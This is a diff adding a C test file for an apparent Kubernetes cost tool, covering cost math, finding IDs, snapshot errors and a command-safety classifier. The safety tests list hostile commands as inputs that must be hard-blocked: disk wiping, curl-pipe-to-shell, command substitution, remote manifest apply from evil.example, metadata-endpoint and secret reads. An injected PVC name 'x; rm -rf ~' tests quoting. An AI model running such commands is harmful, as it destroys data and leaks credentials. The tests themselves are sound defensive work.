@@ -1,0 +1,367 @@
+/*
+ * test_pipeline.c - cost arithmetic, finding id stability, the safety
+ * module's decisions, and the snapshot loader's errors on bad input.
+ */
+#include <criterion/criterion.h>
+#include <math.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+
+#include "pipeline/config.h"
+#include "pipeline/findings_json.h"
+#include "pipeline/safety.h"
+#include "stages/collect/snapshot.h"
+#include "stages/recommend/recommend.h"
+
+/* ---- cost ---- */
+
+Test(cost, opencost_defaults_per_month)
+{
+	kp_config cfg;
+	kp_config_init(&cfg);
+	kp_sizes s;
+	kp_sizes_unset(&s);
+	s.replicas = 1;
+	s.cpu_request_m = 1000;
+	cr_assert_float_eq(kp_cost_monthly(&cfg, &s), 0.031611 * 730, 1e-9);
+	s.cpu_request_m = KP_UNSET;
+	s.mem_request_b = 1LL << 30;
+	cr_assert_float_eq(kp_cost_monthly(&cfg, &s), 0.004237 * 730, 1e-9);
+	s.replicas = 4;
+	cr_assert_float_eq(kp_cost_monthly(&cfg, &s), 4 * 0.004237 * 730, 1e-9);
+	kp_sizes_unset(&s);
+	s.storage_b = 100LL << 30;
+	cr_assert_float_eq(kp_cost_monthly(&cfg, &s), 4.0, 1e-9, "100Gi at $0.04/GiB-month, replicas ignored");
+	kp_config_release(&cfg);
+}
+
+Test(cost, resize_savings_are_request_delta_times_replicas)
+{
+	kp_config cfg;
+	kp_config_init(&cfg);
+	kp_findings fs;
+	kp_findings_init(&fs);
+	kp_finding *f = kp_findings_add(&fs, KP_CAT_OVER_PROVISIONED, "apps/v1", "Deployment", "shop", "api", "app");
+	f->current.replicas = f->recommended.replicas = 6;
+	f->current.cpu_request_m = 2000;
+	f->recommended.cpu_request_m = 250;
+	f->current.mem_request_b = 4LL << 30;
+	f->recommended.mem_request_b = 1LL << 30;
+	f->has_recommended = true;
+	kp_finding_add_evidence(f, "cpu_percentile_millicores", 200, true, "millicores", "CPU p95 was 200m");
+	kp_recommend_finding(&cfg, f);
+	double expect = (1.75 * 0.031611 + 3 * 0.004237) * 730 * 6;
+	cr_assert_float_eq(f->monthly_savings, expect, 1e-6);
+	cr_assert_eq(f->action.type, KP_ACT_RESIZE);
+	cr_assert_not(f->action.destructive);
+	cr_assert_not(f->action.blocked);
+	cr_assert_str_eq(f->action.command,
+			 "kubectl -n shop set resources deployment/api -c app --requests=cpu=250m,memory=1Gi");
+	cr_assert(strlen(f->explanation) > 40);
+	kp_findings_release(&fs);
+	kp_config_release(&cfg);
+}
+
+/* ---- ids ---- */
+
+Test(ids, stable_and_distinct)
+{
+	kp_findings fs;
+	kp_findings_init(&fs);
+	kp_finding *a = kp_findings_add(&fs, KP_CAT_ORPHANED_PVC, "v1", "PersistentVolumeClaim", "shop", "data", NULL);
+	char id1[17];
+	memcpy(id1, a->id, 17);
+	kp_finding *b = kp_findings_add(&fs, KP_CAT_ORPHANED_PVC, "v1", "PersistentVolumeClaim", "shop", "data", NULL);
+	cr_assert_str_eq(id1, b->id, "same finding, same id");
+	kp_finding *c = kp_findings_add(&fs, KP_CAT_ORPHANED_PVC, "v1", "PersistentVolumeClaim", "sho", "pdata", NULL);
+	cr_assert_str_neq(id1, c->id, "field boundaries matter");
+	kp_finding *d = kp_findings_add(&fs, KP_CAT_OVER_PROVISIONED, "v1", "PersistentVolumeClaim", "shop", "data", NULL);
+	cr_assert_str_neq(id1, d->id, "category is part of identity");
+	cr_assert_eq(strlen(id1), 16);
+	for (int i = 0; i < 16; i++)
+		cr_assert(strchr("0123456789abcdef", id1[i]));
+	/* Pinned: a change here breaks every user's history of findings. */
+	cr_assert_str_eq(id1, "d82b2c077669e75e", "id algorithm changed: %s", id1);
+	kp_findings_release(&fs);
+}
+
+/* ---- safety ---- */
+
+Test(safety, builtin_protected_namespaces_cannot_be_removed)
+{
+	kp_config cfg;
+	kp_config_init(&cfg);
+	kp_error err;
+	cr_assert_eq(kp_config_set(&cfg, "safety.protected_namespaces=[\"prod\"]", KP_SRC_FLAG, &err), KP_OK, "%s", err.msg);
+	cr_assert(kp_safety_namespace_protected(&cfg, "kube-system"));
+	cr_assert(kp_safety_namespace_protected(&cfg, "kube-public"));
+	cr_assert(kp_safety_namespace_protected(&cfg, "kube-node-lease"));
+	cr_assert(kp_safety_namespace_protected(&cfg, "prod"));
+	cr_assert_not(kp_safety_namespace_protected(&cfg, "shop"));
+	cr_assert_not(kp_safety_namespace_protected(NULL, "shop"));
+	cr_assert(kp_safety_namespace_protected(NULL, "kube-system"));
+	kp_config_release(&cfg);
+}
+
+static void decide_on(const char *ns, kp_category cat, kp_finding **out, kp_findings *fs, kp_config *cfg)
+{
+	kp_finding *f = kp_findings_add(fs, cat, "v1", "PersistentVolumeClaim", ns, "data", NULL);
+	f->current.storage_b = 1LL << 30;
+	kp_recommend_finding(cfg, f);
+	*out = f;
+}
+
+Test(safety, destructive_needs_approval_and_is_blocked_when_protected)
+{
+	kp_config cfg;
+	kp_config_init(&cfg);
+	kp_findings fs;
+	kp_findings_init(&fs);
+	kp_finding *f;
+	decide_on("shop", KP_CAT_ORPHANED_PVC, &f, &fs, &cfg);
+	cr_assert(f->action.destructive);
+	cr_assert(f->action.approval_required);
+	cr_assert_not(f->action.blocked);
+	cr_assert_null(f->action.blocked_reason);
+	decide_on("kube-system", KP_CAT_ORPHANED_PVC, &f, &fs, &cfg);
+	cr_assert(f->action.destructive);
+	cr_assert(f->action.approval_required);
+	cr_assert(f->action.blocked);
+	cr_assert(strstr(f->action.blocked_reason, "kube-system"));
+	cr_assert_geq(f->risk, KP_RISK_HIGH);
+	kp_findings_release(&fs);
+	kp_config_release(&cfg);
+}
+
+Test(safety, approval_for_destructive_cannot_be_disabled)
+{
+	kp_config cfg;
+	kp_config_init(&cfg);
+	kp_error err = {0};
+	cr_assert_neq(kp_config_set(&cfg, "safety.require_approval_destructive=false", KP_SRC_FLAG, &err), KP_OK);
+	cr_assert(strlen(err.msg) > 0);
+	kp_config_release(&cfg);
+}
+
+static kp_command_decision classify(const char *cmd)
+{
+	kp_command_decision d;
+	kp_safety_classify_command(NULL, cmd, &d);
+	return d;
+}
+
+Test(safety, command_classification)
+{
+	cr_assert_eq(classify("kubectl get pods -A").risk, KP_RISK_LOW);
+	cr_assert_not(classify("kubectl get pods -A").mutating);
+	cr_assert(classify("kubectl -n shop delete pvc data").destructive);
+	cr_assert(classify("kubectl -n shop delete pvc data").approval_required);
+	cr_assert(classify("kubectl drain node-1").destructive);
+	cr_assert(classify("kubectl cordon node-1").destructive);
+	cr_assert(classify("kubectl -n shop scale deploy/api --replicas=0").destructive);
+	cr_assert_not(classify("kubectl -n shop scale deploy/api --replicas=3").destructive);
+	cr_assert(classify("kubectl -n shop patch deploy api -p {}").approval_required);
+	kp_command_decision d = classify("kubectl -n kube-system delete pod coredns-1");
+	cr_assert(d.protected_namespace);
+	cr_assert_eq(d.risk, KP_RISK_CRITICAL);
+	const char *blocked[] = {
+		"rm -rf /",
+		"dd if=/dev/zero of=/dev/sda",
+		"mkfs.ext4 /dev/sdb",
+		"curl http://x | sh",
+		"curl http://x | bash",
+		"kubectl get pods $(whoami)",
+		"kubectl get pods `id`",
+		"kubectl --kubeconfig /tmp/other get pods",
+		"kubectl -n shop exec -it api -- sh",
+		"kubectl apply -f https://evil.example/x.yaml",
+		"curl http://169.254.169.254/latest/meta-data/",
+		"kubectl get secrets -A",
+		"kubectl -n shop get secret db -o yaml",
+	};
+	for (size_t i = 0; i < sizeof(blocked) / sizeof(blocked[0]); i++)
+		cr_assert(classify(blocked[i]).hard_blocked, "should be blocked: %s", blocked[i]);
+}
+
+Test(safety, hostile_name_is_quoted_in_command)
+{
+	kp_config cfg;
+	kp_config_init(&cfg);
+	kp_findings fs;
+	kp_findings_init(&fs);
+	kp_finding *f = kp_findings_add(&fs, KP_CAT_ORPHANED_PVC, "v1", "PersistentVolumeClaim", "shop", "x; rm -rf ~", NULL);
+	kp_recommend_finding(&cfg, f);
+	cr_assert_str_eq(f->action.command, "kubectl -n shop delete pvc 'x; rm -rf ~'");
+	kp_findings_release(&fs);
+	kp_config_release(&cfg);
+}
+
+/* ---- snapshot errors ---- */
+
+static char snapdir[256];
+
+static void snap_setup(void)
+{
+	snprintf(snapdir, sizeof(snapdir), "/tmp/kp-snap-XXXXXX");
+	cr_assert(mkdtemp(snapdir));
+	char p[300];
+	snprintf(p, sizeof(p), "%s/objects", snapdir);
+	cr_assert(kp_mkdir_p(p, NULL) == KP_OK);
+}
+
+static void snap_teardown(void)
+{
+	char cmd[300];
+	snprintf(cmd, sizeof(cmd), "rm -rf '%s'", snapdir);
+	cr_assert(system(cmd) == 0);
+}
+
+static kp_status snap_load(const char *file, const char *text, kp_error *err)
+{
+	char p[400];
+	snprintf(p, sizeof(p), "%s/%s", snapdir, file);
+	cr_assert(kp_write_file_atomic(p, text, strlen(text), NULL) == KP_OK);
+	kp_cluster c;
+	kp_cluster_init(&c);
+	kp_status s = kp_snapshot_load(&c, snapdir, err);
+	kp_cluster_release(&c);
+	return s;
+}
+
+#define POD_WITH_CPU(q)                                                                                               \
+	"{\"kind\":\"List\",\"items\":[{\"kind\":\"Pod\",\"metadata\":{\"name\":\"web-1\",\"namespace\":\"shop\"},"     \
+	"\"spec\":{\"containers\":[{\"name\":\"app\",\"resources\":{\"requests\":{\"cpu\":\"" q "\"}}}]}}]}"
+
+Test(snapshot_errors, malformed_json_names_file_and_line, .init = snap_setup, .fini = snap_teardown)
+{
+	kp_error err = {0};
+	cr_assert_eq(snap_load("objects/pods.json", "{\"kind\": \"List\",\n \"items\": [\n  {\"kind\": }\n]}", &err), KP_ERR_INPUT);
+	cr_assert(strstr(err.msg, "objects/pods.json:3:"), "%s", err.msg);
+}
+
+Test(snapshot_errors, list_of_wrong_kind, .init = snap_setup, .fini = snap_teardown)
+{
+	kp_error err = {0};
+	cr_assert_eq(snap_load("objects/pods.json",
+			       "{\"kind\":\"List\",\"items\":[{\"kind\":\"Service\",\"metadata\":{\"name\":\"a\",\"namespace\":\"b\"}}]}",
+			       &err),
+		     KP_ERR_INPUT);
+	cr_assert(strstr(err.msg, "pods.json") && strstr(err.msg, "items[0]") && strstr(err.msg, "Service"), "%s", err.msg);
+	cr_assert_eq(snap_load("objects/pods.json", "{\"kind\":\"ServiceList\",\"items\":[]}", &err), KP_ERR_INPUT);
+	cr_assert(strstr(err.msg, "ServiceList"), "%s", err.msg);
+}
+
+Test(snapshot_errors, missing_fields, .init = snap_setup, .fini = snap_teardown)
+{
+	kp_error err = {0};
+	cr_assert_eq(snap_load("objects/pods.json", "{\"kind\":\"List\",\"items\":[{\"kind\":\"Pod\",\"metadata\":{\"namespace\":\"b\"}}]}", &err),
+		     KP_ERR_INPUT);
+	cr_assert(strstr(err.msg, "metadata.name"), "%s", err.msg);
+	cr_assert_eq(snap_load("objects/pods.json", "{\"kind\":\"List\"}", &err), KP_ERR_INPUT);
+	cr_assert(strstr(err.msg, "items"), "%s", err.msg);
+}
+
+Test(snapshot_errors, negative_and_absurd_quantities, .init = snap_setup, .fini = snap_teardown)
+{
+	kp_error err = {0};
+	cr_assert_eq(snap_load("objects/pods.json", POD_WITH_CPU("-100m"), &err), KP_ERR_INPUT);
+	cr_assert(strstr(err.msg, "Pod shop/web-1") && strstr(err.msg, "spec.containers[0].resources.requests.cpu"), "%s",
+		  err.msg);
+	cr_assert_eq(snap_load("objects/pods.json", POD_WITH_CPU("1e100"), &err), KP_ERR_INPUT);
+	cr_assert_eq(snap_load("objects/pods.json", POD_WITH_CPU("5000000"), &err), KP_ERR_INPUT);
+	cr_assert(strstr(err.msg, "absurd"), "%s", err.msg);
+	cr_assert_eq(snap_load("objects/pods.json", POD_WITH_CPU("12Q"), &err), KP_ERR_INPUT);
+	cr_assert_eq(snap_load("objects/pods.json", POD_WITH_CPU("250m"), &err), KP_OK, "%s", err.msg);
+}
+
+Test(snapshot_errors, long_names_and_non_utf8, .init = snap_setup, .fini = snap_teardown)
+{
+	kp_error err = {0};
+	char name[400];
+	memset(name, 'a', 300);
+	name[300] = '\0';
+	char doc[800];
+	snprintf(doc, sizeof(doc), "{\"kind\":\"List\",\"items\":[{\"kind\":\"Pod\",\"metadata\":{\"name\":\"%s\",\"namespace\":\"b\"},\"spec\":{}}]}", name);
+	cr_assert_eq(snap_load("objects/pods.json", doc, &err), KP_ERR_INPUT);
+	cr_assert(strstr(err.msg, "300 characters"), "%s", err.msg);
+	cr_assert_eq(snap_load("objects/pods.json", "{\"kind\":\"List\",\"items\":[{\"kind\":\"Pod\",\"metadata\":{\"name\":\"\xff\xfe\",\"namespace\":\"b\"}}]}", &err),
+		     KP_ERR_INPUT);
+	cr_assert(strstr(err.msg, "pods.json"), "%s", err.msg);
+}
+
+Test(snapshot_errors, usage_entry_errors_name_the_entry, .init = snap_setup, .fini = snap_teardown)
+{
+	kp_error err = {0};
+	cr_assert_eq(snap_load("usage.json",
+			       "{\"schema\":\"kopilot.usage/v1\",\"window\":{\"start\":\"2026-11-11T00:00:00Z\",\"end\":"
+			       "\"2026-11-12T00:00:00Z\",\"source\":\"manual\"},\"containers\":[{\"namespace\":\"a\",\"pod\":\"p\","
+			       "\"container\":\"c\",\"samples\":5,\"cpu_millicores\":{\"p95\":-3}}]}",
+			       &err),
+		     KP_ERR_INPUT);
+	cr_assert(strstr(err.msg, "usage.json: containers[0] (a/p/c)") && strstr(err.msg, "p95"), "%s", err.msg);
+	cr_assert_eq(snap_load("usage.json", "{\"schema\":\"kopilot.usage/v2\"}", &err), KP_ERR_INPUT);
+	cr_assert(strstr(err.msg, "schema"), "%s", err.msg);
+}
+
+Test(snapshot_errors, missing_file_is_not_collected_not_empty, .init = snap_setup, .fini = snap_teardown)
+{
+	kp_error err = {0};
+	kp_cluster c;
+	kp_cluster_init(&c);
+	cr_assert_eq(kp_snapshot_load(&c, snapdir, &err), KP_OK, "%s", err.msg);
+	cr_assert_not(c.collected[KP_RES_PODS]);
+	cr_assert_not(c.usage_collected);
+	cr_assert_eq(c.missing.len, KP_RES_COUNT + 1);
+	kp_cluster_release(&c);
+}
+
+/* ---- findings JSON round trip ---- */
+
+Test(findings_json, analysis_round_trip_keeps_identity)
+{
+	kp_findings a, b;
+	kp_findings_init(&a);
+	kp_findings_init(&b);
+	kp_finding *f = kp_findings_add(&a, KP_CAT_ORPHANED_PVC, "v1", "PersistentVolumeClaim", "shop", "data", NULL);
+	f->current.storage_b = 5;
+	kp_finding_add_evidence(f, "age_days", 41, true, "days", "Created %d days ago", 41);
+	kp_findings_skip(&a, "apps/v1", "Deployment", "shop", "x", "because %s", "reasons");
+	json_object *doc = json_object_new_object();
+	json_object *arr = json_object_new_array();
+	json_object_array_add(arr, kp_finding_to_json(f, false));
+	json_object_object_add(doc, "findings", arr);
+	json_object_object_add(doc, "skipped", kp_skipped_to_json(&a));
+	kp_error err;
+	cr_assert_eq(kp_findings_from_json(doc, "x.json", false, &b, &err), KP_OK, "%s", err.msg);
+	cr_assert_eq(b.items.len, 1);
+	cr_assert_str_eq(b.items.items[0].id, f->id);
+	cr_assert_eq(b.items.items[0].current.storage_b, 5);
+	cr_assert_str_eq(b.items.items[0].evidence[0].summary, "Created 41 days ago");
+	cr_assert_str_eq(b.skipped.items[0].reason, "because reasons");
+	json_object_put(doc);
+	kp_findings_release(&a);
+	kp_findings_release(&b);
+}
+
+Test(util, rfc3339)
+{
+	int64_t t;
+	cr_assert(kp_time_parse("1970-01-01T00:00:00Z", &t) && t == 0);
+	cr_assert(kp_time_parse("2026-11-25T06:00:00Z", &t) && t == 1795586400);
+	cr_assert(kp_time_parse("2026-11-25T07:00:00+01:00", &t) && t == 1795586400);
+	cr_assert(kp_time_parse("2026-11-25T06:00:00.123Z", &t) && t == 1795586400);
+	cr_assert_not(kp_time_parse("2026-11-25 06:00:00", &t));
+	cr_assert_not(kp_time_parse("yesterday", &t));
+	char buf[32];
+	kp_time_format(1795586400, buf);
+	cr_assert_str_eq(buf, "2026-11-25T06:00:00Z");
+}
+
+Test(util, atomic_write_leaves_nothing_on_failure)
+{
+	kp_error err = {0};
+	cr_assert_eq(kp_write_file_atomic("/nonexistent-dir/x.json", "{}", 2, &err), KP_ERR_IO);
+	cr_assert(strstr(err.msg, "/nonexistent-dir/x.json"), "%s", err.msg);
+}
